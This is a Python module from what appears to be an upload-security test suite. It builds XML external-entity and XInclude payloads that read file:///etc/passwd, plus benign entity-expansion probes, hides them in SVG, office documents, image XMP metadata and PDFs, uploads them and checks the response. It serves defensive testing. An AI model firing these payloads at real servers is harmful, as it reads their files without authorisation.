"""XML that makes its parser read files and multiply.

What it does
    Uploads XML with entities that name a file of the server's, that are to be joined, and with
    an inclusion: as text, as XML and SVG under their own names, inside an office document,
    inside the metadata of a picture. Then it looks for what only a parser could have put there.

Why it works
    XML is in more than ``.xml``: in SVG, in every office document, in the metadata of
    photographs. A parser with its defaults of long ago reads any file that the document names
    and expands a kilobyte into gigabytes. Ours expands into two words.

Expected defence
    No type that holds XML is accepted; or its parser refuses every document type declaration.

References
    - CWE-611, CWE-776
    - OWASP ASVS v5.0.0-1.5.1, v5.0.0-5.2.1; WSTG-INPV-07, WSTG-BUSL-09
    - CVE-2003-1564 (entity expansion)
"""

from __future__ import annotations

from hypothesis import strategies as st

from attacks.model import GENERATED, Attack, Body, Demand, Probe, Profile, SentFile, Severity
from attacks.oracles.canaries import ENTITY
from attacks.oracles.entities_unexpanded import entities_unexpanded
from attacks.strategies.archives import Member, zipped
from attacks.strategies.documents import pdf
from attacks.strategies.images import (
    XMP_END,
    gif_with,
    jpeg_segment,
    jpeg_with,
    png_chunk,
    png_with,
)
from attacks.strategies.typed import TEXTS, Tables, from_tables, honest_each
from attacks.uploads import upload

HEAD = b'<?xml version="1.0"?>\n'
EXTERNAL = b'<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n'
INTERNAL = b'<!DOCTYPE r [<!ENTITY a "%s"><!ENTITY b "%s">]>\n' % ENTITY
INCLUDED = (
    b'<r xmlns:i="http://www.w3.org/2001/XInclude">'
    b'<i:include href="file:///etc/passwd" parse="text"/></r>\n'
)
XML = {
    "file": HEAD + EXTERNAL + b"<r>&f;</r>\n",
    "joined": HEAD + INTERNAL + b"<r>&a;&b;</r>\n",
    "included": HEAD + INCLUDED,
}
SVG = {
    name: HEAD + dtd + b'<svg xmlns="http://www.w3.org/2000/svg"><text>%s</text></svg>\n' % used
    for name, dtd, used in (("file", EXTERNAL, b"&f;"), ("joined", INTERNAL, b"&a;&b;"))
}


def _office(part: bytes) -> dict[str, bytes]:
    """Return an office document for each, whose *part* it is."""
    types = Member(name=b"[Content_Types].xml", data=HEAD + b"<Types/>")
    return {n: zipped([types, Member(name=part, data=xml)]) for n, xml in XML.items()}


def _described(xml: bytes) -> bytes:
    """Return a PDF that is described by *xml* (ISO 32000-2, section 14.3.2)."""
    head = b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n" % len(xml)
    return pdf(catalog=b"/Metadata 4 0 R", more=(head + xml + b"\nendstream",))


OFFICE, SHEETS = _office(b"word/document.xml"), _office(b"xl/worksheets/sheet1.xml")
OPEN = _office(b"content.xml")
XMP = b"http://ns.adobe.com/xap/1.0/\0"
TABLES: Tables = {
    **dict.fromkeys(TEXTS, XML),
    "zip": {f"office-{name}": data for name, data in OFFICE.items()},
    "jpg": {f"xmp-{n}": jpeg_with(jpeg_segment(0xE1, XMP + xml)) for n, xml in XML.items()},
    "png": {
        f"xmp-{n}": png_with(png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + xml))
        for n, xml in XML.items()
    },
    "gif": {
        f"xmp-{n}": gif_with(b"!\xff\x0bXMP DataXMP" + xml + XMP_END) for n, xml in XML.items()
    },
    "pdf": {f"xmp-{n}": _described(xml) for n, xml in XML.items()},
}
OFFICE_TYPE = b"application/vnd.openxmlformats-officedocument."
OWN = {
    "xml": (b"text/xml", XML),
    "svg": (b"image/svg+xml", SVG),
    "docx": (OFFICE_TYPE + b"wordprocessingml.document", OFFICE),
    "xlsx": (OFFICE_TYPE + b"spreadsheetml.sheet", SHEETS),
    "odt": (b"application/vnd.oasis.opendocument.text", OPEN),
}


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return the documents in each accepted carrier, then under their own names."""
    own = (
        _own(profile, extension, name) for extension, (_, table) in OWN.items() for name in table
    )
    return (*from_tables(profile, TABLES, demand=Demand.EITHER), *own)


def _own(profile: Profile, extension: str, name: str) -> Probe:
    media_type, table = OWN[extension]
    file = SentFile(
        filename=f"entities.{extension}".encode(),
        content=Body((table[name],)),
        media_type=media_type,
    )
    return Probe(steps=(upload(profile, file),), variant=f"{name}-{extension}")


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Refer to the two entities so many times, from content or an attribute, in any document."""
    used = st.integers(1, 5).map(lambda count: b"&a;&b;" * count)
    frames = st.sampled_from((b"<r>%s</r>\n", b'<r a="%s"/>\n', b"<r><s>%s</s></r>\n"))
    heads = st.sampled_from((HEAD, b"", b"\xef\xbb\xbf" + HEAD, b"<!-- x -->\n"))
    return st.builds(
        lambda head, frame, body: _joined(profile, head + INTERNAL + frame % body),
        heads,
        frames,
        used,
    )


def _joined(profile: Profile, xml: bytes) -> Probe:
    name, media_type = b"entities.xml", b"text/xml"
    if any(sample.extension == "txt" for sample in profile.accepted):
        name, media_type = b"entities.txt", b"text/plain"
    file = SentFile(filename=name, content=Body((xml,)), media_type=media_type)
    return Probe(steps=(upload(profile, file),), variant=GENERATED)


ATTACK = Attack(
    id="content.xml-entities",
    title="XML entities that are expanded",
    severity=Severity.MEDIUM,
    controls=("xxe", "entity-expansion"),
    cwe=(611, 776),
    asvs=("v5.0.0-1.5.1", "v5.0.0-5.2.1"),
    wstg=("WSTG-INPV-07", "WSTG-BUSL-09"),
    oracles=(entities_unexpanded,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *TABLES),
)
